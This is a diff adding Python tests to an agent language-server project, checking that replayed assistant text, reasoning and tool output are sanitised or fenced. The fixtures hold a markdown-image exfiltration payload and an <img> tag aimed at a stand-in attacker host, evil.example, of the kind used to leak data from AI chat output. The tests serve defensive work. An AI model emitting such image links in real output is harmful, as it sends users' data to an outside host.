@@ -25,6 +25,7 @@ from agent_ls.acp.mapping import (
     tool_title,
 )
 from agent_ls.acp.mcp_servers import server_configs, server_name
+from agent_ls.core.context import wrap_tool_result
 from agent_ls.core.events import RunEnded
 from agent_ls.core.messages import AssistantMessage, ToolCall, ToolResultMessage, Usage, UserMessage
 from agent_ls.core.ports import Approval, ApprovalRequest
@@ -153,6 +154,32 @@ def test_history_replays_as_user_agent_and_tool_updates() -> None:
         "agent_message_chunk",
     ]
     assert updates[3].status == "completed"
+
+
+EXFIL = "![o](https://evil.example/o.png?k=1)"
+
+
+def test_replayed_model_text_is_defanged_as_it_was_live() -> None:
+    messages = [
+        AssistantMessage(text=f"See {EXFIL}", reasoning="Think <img src='https://evil.example/r'>"),
+    ]
+    thought, said = history_updates(Path("/w"), messages)
+    assert thought.session_update == "agent_thought_chunk"
+    assert said.content.text == "See [image: o](https://evil.example/…)"
+    assert "<img" not in thought.content.text
+
+
+def test_tool_output_is_fenced_live_and_on_replay_with_the_raw_output() -> None:
+    output = f"{EXFIL}\n```\n<b>``x``</b>\n````"
+    [text] = tool_call_end("c1", False, output).content or []
+    assert text.content.text == f"`````\n{output}\n`````"
+    stored = wrap_tool_result("bash", "<tool_result>echo</tool_result>", False)
+    messages = [
+        AssistantMessage(tool_calls=(ToolCall("c1", "bash", '{"command": "echo"}'),)),
+        ToolResultMessage("c1", "bash", stored),
+    ]
+    _, end = history_updates(Path("/w"), messages)
+    assert end.content[0].content.text == "```\n<tool_result>echo</tool_result>\n```"
 
 
 def test_client_buffers_keep_only_unsaved_texts(tmp_path: Path) -> None:
